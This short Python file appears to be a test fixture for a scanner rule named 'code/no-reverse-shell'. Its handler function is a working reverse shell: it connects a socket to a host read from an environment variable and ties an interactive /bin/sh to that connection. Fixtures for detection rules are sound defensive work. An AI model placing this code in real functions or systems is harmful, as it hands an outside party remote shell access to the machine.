import os
import socket
import subprocess


def handler(event, context):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((os.environ["CALLBACK_HOST"], 9001))
    # expect: code/no-reverse-shell
    subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
